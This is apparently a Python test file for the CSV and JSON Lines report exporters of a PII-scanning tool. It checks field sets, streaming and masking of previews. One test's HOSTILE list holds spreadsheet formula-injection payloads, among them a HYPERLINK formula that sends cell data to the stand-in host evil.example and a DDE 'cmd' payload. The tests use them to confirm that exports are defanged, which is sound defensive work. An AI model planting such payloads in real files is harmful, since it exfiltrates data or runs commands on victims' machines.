"""JSON Lines and CSV give out the fields that are named and no other, and nothing in them acts."""

from __future__ import annotations

import csv
import dataclasses
import io
import json

import pytest

from pii_guard.audit.rows import Found, Row, Verdict
from pii_guard.report import csv_of_files, csv_of_findings, json_lines
from pii_guard.report.lines import FILE, FINDING
from tests.report.samples import found, row, row_with, rows

ROWS = rows(300)
FORMS = {"jsonl": json_lines, "csv": csv_of_files, "csv-findings": csv_of_findings}


def lines(given):
    return [json.loads(line) for line in b"".join(json_lines(given)).splitlines()]


def records(form, given):
    text = b"".join(FORMS[form](given)).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_each_file_is_a_line_of_json():
    made = lines(ROWS)
    assert [one["location"] for one in made] == [one.location for one in ROWS]
    for line, one in zip(made, ROWS, strict=True):
        assert line["found"] == one.found
        assert line["by_type"] == dict(one.by_type)
        assert [each["fingerprint"] for each in line["findings"]] == [
            each.fingerprint for each in one.findings
        ]


def test_lines_hold_only_the_fields_that_are_known():
    """A field that a row gains is not given out before somebody looked at it here."""
    known = {"schema", *FILE, "found", "by_type", "unread", "findings"}
    assert all(set(line) == known for line in lines(ROWS))
    for line in lines(ROWS):
        assert all(set(one) == {"id", *FINDING, "beside"} for one in line["findings"])
    assert set(FILE) <= {one.name for one in dataclasses.fields(Row)}
    assert set(FINDING) <= {one.name for one in dataclasses.fields(Found)}
    assert set(records("csv", ROWS)[0]) == {*FILE, "found", "types"}
    place = {"id", "source", "location", "media_type", "modified"}
    assert set(records("csv-findings", ROWS)[0]) == {*place, *FINDING, "beside"}


def test_each_file_is_a_record():
    made = records("csv", ROWS)
    assert [one["location"] for one in made] == [one.location for one in ROWS]
    assert [int(one["found"]) for one in made] == [one.found for one in ROWS]


def test_each_finding_is_a_record():
    made = records("csv-findings", ROWS)
    expected = [(one.location, each.locator) for one in ROWS for each in one.findings]
    assert [(one["location"], one["locator"]) for one in made] == expected
    ids = [one.finding_id(number) for one in ROWS for number in range(len(one.findings))]
    assert [one["id"] for one in made] == ids


HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1",
    'a","=1+1', "a\r\n=1+1", "\u202e=1", "﹦", "＝1+1", "\x00",
)  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("form", ["csv", "csv-findings"])
def test_no_cell_is_a_formula_and_no_text_begins_another_cell(form, text):
    one = row_with(text, {"PERSON": ("high", 1)}, media_type=text, reason=text, where=text)
    hostile = found(text, text, 1, locator=text, recognizer=text, rule=text, fingerprint=text)
    one = dataclasses.replace(one, findings=(hostile,))
    raw = b"".join(FORMS[form]([one])).decode()
    assert raw.count("\r\n") == 2
    assert raw.count("\n") == raw.count("\r") == 2
    (record,) = records(form, [one])
    assert None not in record
    for value in record.values():
        assert not value.startswith(tuple("=+-@\t\r＝"))
        assert value.isprintable()


@pytest.mark.parametrize("form", FORMS)
def test_a_preview_that_is_not_masked_stays_behind(form):
    one = row("a.txt", Verdict.FOUND, findings=(found("PERSON", "high", 1, preview="Jane Roe"),))
    made = b"".join(FORMS[form]([one]))
    assert b"Jane" not in made


@pytest.mark.parametrize("form", FORMS)
def test_a_line_of_json_is_ascii_and_a_table_is_utf8(form):
    made = b"".join(FORMS[form]([row_with("Müller/日本.txt", {"PERSON": ("high", 1)})]))
    if form == "jsonl":
        assert made.isascii()
        assert made.count(b"\n") == 1
    else:
        assert "Müller/日本.txt" in made.decode()


@pytest.mark.parametrize("form", FORMS)
def test_rows_are_written_as_they_come(form):
    """Nothing is held back: the first pieces are there long before the last row is read."""
    read = 0

    def coming():
        nonlocal read
        for one in rows(2_000, seed=2):
            read += 1
            yield one

    pieces = FORMS[form](coming())
    assert next(iter(pieces))
    assert read < 1_500
